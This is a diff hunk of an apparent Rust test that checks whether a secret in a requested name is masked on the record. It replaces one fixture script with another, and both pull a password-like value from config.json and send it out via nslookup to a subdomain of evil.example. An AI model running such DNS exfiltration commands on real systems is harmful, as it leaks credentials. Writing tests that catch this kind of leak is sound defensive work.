@@ -144,8 +144,7 @@ fn a_secret_in_a_name_that_is_asked_for_is_masked_on_the_record() {
     let house = House::new();
     let spec = command(&house, &json!({ "allow": ["db.example.com:80"] }), "true");
     let spec = spec.get_args().nth(1).unwrap().to_str().unwrap().to_owned();
-    let script =
-        "s=$(sed 's/.*sword\"*:\"\\([^\"]*\\)\".*/\\1/' config.json); nslookup $s.evil.example; true";
+    let script = "nslookup $(grep -o 'sword[a-z]*-[0-9]*' config.json | head -n 1).evil.example; true";
     let parameters = json!({ "script": script });
     let configuration = json!({
         "parameters": parameters,
